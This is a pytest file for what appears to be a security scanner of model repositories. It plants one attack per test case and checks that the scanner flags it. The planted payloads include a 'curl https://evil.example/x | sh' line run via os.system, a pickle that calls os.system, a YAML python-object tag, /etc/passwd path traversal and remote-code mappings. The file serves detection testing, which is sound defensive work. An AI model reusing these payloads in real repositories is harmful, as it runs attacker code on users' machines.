"""Repositories with one planted attack each: found, with the file and the key named."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.helpers.folders import change, copy, put, repository, scanned

ACT = "import os\nos.system('curl -s https://evil.example/x | sh')\n"
LATER = """import subprocess

class TinyConfig:
    def __init__(self):
        self._prepare()

    def _prepare(self):
        subprocess.Popen(["sh", "-c", "true"])
"""


def _append(name: str, text: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        path = root / name
        put(root, {name: (path.read_text() if path.exists() else "") + "\n" + text})

    return edit


def _json(name: str, **values: object) -> Callable[[Path], None]:
    return lambda root: change(root / name, lambda value: value.update(values))


def _replace(name: str, old: str, new: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        text = (root / name).read_text()
        assert old in text
        (root / name).write_text(text.replace(old, new))

    return edit


def _all(*edits: Callable[[Path], object]) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        for one in edits:
            one(root)

    return edit


def _index(**places: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        path = root / "model.safetensors.index.json"
        change(path, lambda value: value["weight_map"].update(places))

    return edit


#: The repository, what is done to it, the rule, the severity, and what the finding names.
ATTACKS = {
    "code on import": (
        *("own_code", _append("modeling_tiny.py", ACT)),
        *("repository-code", "critical", ["modeling_tiny.py", "os.system"]),
    ),
    "code in what is imported relatively": (
        *("own_code", _append("configuration_tiny.py", ACT)),
        *("repository-code", "critical", ["configuration_tiny.py", "os.system"]),
    ),
    "code in a helper two imports away": (
        "own_code",
        _all(
            _append("configuration_tiny.py", "from .deep.tool import run\n"),
            _append("deep/tool.py", ACT),
        ),
        *("repository-code", "critical", ["deep/tool.py", "os.system"]),
    ),
    "code when the model is made": (
        *("own_code", lambda root: put(root, {"configuration_tiny.py": LATER})),
        *("repository-code", "high", ["configuration_tiny.py", "subprocess.Popen"]),
    ),
    "text that is run": (
        *("own_code", _append("modeling_tiny.py", "exec(open('README.md').read())\n")),
        *("repository-code", "high", ["modeling_tiny.py", "exec"]),
    ),
    "code of another repository": (
        "own_code",
        _json("config.json", auto_map={"AutoModel": "other/repo--modeling_tiny.TinyModel"}),
        *("remote-code", "high", ["other/repo", "auto_map.AutoModel"]),
    ),
    "code of another repository, nested": (
        "llama",
        _json("config.json", vision_config={"auto_map": {"AutoConfig": "other/repo--c.C"}}),
        *("remote-code", "high", ["other/repo", "vision_config.auto_map"]),
    ),
    "a kernel by name": (
        "llama",
        _json("config.json", _attn_implementation_internal="someone/kernel"),
        *("remote-kernel", "high", ["someone/kernel", "_attn_implementation_internal"]),
    ),
    "trust taken from the configuration": (
        *("llama", _json("config.json", trust_remote_code=True)),
        *("remote-code", "medium", ["trust_remote_code"]),
    ),
    "a way to generate": (
        *("llama", lambda root: put(root, {"custom_generate/generate.py": ACT})),
        *("repository-code", "critical", ["custom_generate/generate.py"]),
    ),
    "a handler of an endpoint": (
        *("llama", lambda root: put(root, {"handler.py": ACT})),
        *("repository-code", "critical", ["handler.py"]),
    ),
    "a shard that leads out": (
        *("sharded", _index(x="../../../etc/passwd")),
        *("external-reference", "medium", ["etc/passwd"]),
    ),
    "a shard that is a pickle": (
        "sharded",
        _all(_index(x="extra.bin"), lambda root: put(root, {"extra.bin": b"\x80\x04N."})),
        *("repository-files", "medium", ["extra.bin", "model.safetensors.index.json"]),
    ),
    "a shard that is not there": (
        *("sharded", _index(x="model-00003-of-00003.safetensors")),
        *("repository-files", "low", ["model-00003-of-00003.safetensors", "weight_map"]),
    ),
    "weights under another name": (
        *("llama", _json("config.json", transformers_weights="/etc/passwd")),
        *("external-reference", "medium", ["/etc/passwd", "transformers_weights"]),
    ),
    "another template for another program": (
        "llama",
        _json("tokenizer_config.json", chat_template="{% for m in messages %}x{% endfor %}"),
        *("repository-files", "low", ["chat_template.jinja", "tokenizer_config.json"]),
    ),
    "a pickle that resuming reads": (
        "checkpoint",
        lambda root: put(root, {"rng_state.pth": b"\x80\x04cos\nsystem\n(X\x01\x00\x00\x00atR."}),
        *("command-execution", "critical", ["os.system"]),
    ),
    "a module of sentence transformers": (
        "sentence",
        lambda root: change(
            root / "modules.json", lambda value: [*value, {**value[0], "idx": 9, "type": "evil.X"}]
        ),
        *("repository-files", "medium", ["modules.json", "evil.X"]),
    ),
    "own code of sentence transformers": (
        "sentence",
        _all(
            lambda root: change(
                root / "modules.json",
                lambda value: [*value, {**value[0], "idx": 9, "type": "custom_st.X"}],
            ),
            lambda root: put(root, {"custom_st.py": ACT}),
        ),
        *("repository-code", "critical", ["custom_st.py"]),
    ),
    "a component of a pipeline": (
        "diffusers",
        _all(
            _json("model_index.json", unet=["my_unet", "Net"]),
            lambda root: put(root, {"unet/my_unet.py": ACT}),
        ),
        *("repository-code", "critical", ["unet/my_unet.py"]),
    ),
    "a pipeline of its own": (
        "diffusers",
        _all(
            _json("model_index.json", _class_name=["my_pipeline", "P"]),
            lambda root: put(root, {"my_pipeline.py": ACT}),
        ),
        *("repository-code", "critical", ["my_pipeline.py"]),
    ),
    "an adapter of a fetched model": (
        "adapter",
        _json("adapter_config.json", base_model_name_or_path="https://evil.example/model"),
        *("external-reference", "medium", ["evil.example", "base_model_name_or_path"]),
    ),
    "a library of an adapter": (
        "adapter",
        _json("adapter_config.json", auto_mapping={"parent_library": "evil.models"}),
        *("repository-files", "medium", ["adapter_config.json", "evil.models"]),
    ),
    "a loader nobody knows": (
        *("mlflow_sklearn", _replace("MLmodel", "mlflow.sklearn", "evil.loader")),
        *("repository-files", "medium", ["evil.loader", "loader_module"]),
    ),
    "a loader of the standard library": (
        *("mlflow_sklearn", _replace("MLmodel", "mlflow.sklearn", "antigravity")),
        *("config-import", "medium", ["antigravity", "loader_module"]),
    ),
    "a loader of its own": (
        *("mlflow_loader", _append("code/my_loader.py", ACT)),
        *("repository-code", "critical", ["code/my_loader.py"]),
    ),
    "what a loader's function does": (
        "mlflow_loader",
        _replace(
            "code/my_loader.py",
            "def _load_pyfunc(path):",
            "import os\n\n\ndef _load_pyfunc(path):\n    os.system(path)",
        ),
        *("repository-code", "high", ["code/my_loader.py", "os.system"]),
    ),
    "a model from code": (
        *("mlflow_code", _append("agent.py", ACT)),
        *("repository-code", "critical", ["agent.py"]),
    ),
    "code that comes along": (
        *("mlflow_code", _append("code/helpers/scale.py", ACT)),
        *("repository-code", "critical", ["code/helpers/scale.py"]),
    ),
    "code in the place of a package": (
        *("mlflow_code", lambda root: put(root, {"code/numpy/__init__.py": "x = 1\n"})),
        *("repository-files", "medium", ["'numpy'", "code/numpy"]),
    ),
    "an artifact of another place": (
        *("mlflow_code", _replace("MLmodel", "artifacts/words.txt", "../../etc/passwd")),
        *("external-reference", "medium", ["etc/passwd"]),
    ),
    "a tag of Python": (
        "mlflow_sklearn",
        _replace("MLmodel", "model_id: null", "x: !!python/object/apply:os.system [echo]"),
        *("config-target", "critical", ["os.system"]),
    ),
    "code of a package": (
        *("spacy", lambda root: put(root, {"__init__.py": ACT})),
        *("repository-code", "critical", ["__init__.py"]),
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_it_is_found(tmp_path: Path, name: str) -> None:
    golden, edit, rule, severity, named = ATTACKS[name]
    root = copy(golden, tmp_path)
    edit(root)
    found = [one for one in scanned(root).findings if one.rule == rule]
    assert severity in [one.severity.value for one in found]
    text = json.dumps(
        [
            [one.message, one.location.path, one.artifact, *(e.fact for e in one.evidence)]
            for one in found
            if one.severity.value == severity
        ]
    )
    assert all(word in text for word in named), text


def test_what_another_repository_runs_is_told(tmp_path: Path) -> None:
    root = copy("own_code", tmp_path)
    _json("config.json", auto_map={"AutoModel": "other/repo--m.M"})(root)
    plain, trusting = repository(scanned(root), root).loading
    assert plain.runs == ()
    assert trusting.runs == ("other/repo--m.M",)


def test_a_kernel_runs_without_trust(tmp_path: Path) -> None:
    root = copy("llama", tmp_path)
    _json("config.json", _attn_implementation_internal="someone/kernel")(root)
    assert repository(scanned(root), root).loading[0].runs == ("someone/kernel",)


def test_code_that_no_loader_imports_is_not_the_repositorys(tmp_path: Path) -> None:
    root = copy("own_code", tmp_path)
    put(root, {"convert.py": ACT})
    found = [one for one in scanned(root).findings if one.rule == "repository-code"]
    assert not [one for one in found if "convert.py" in one.message]
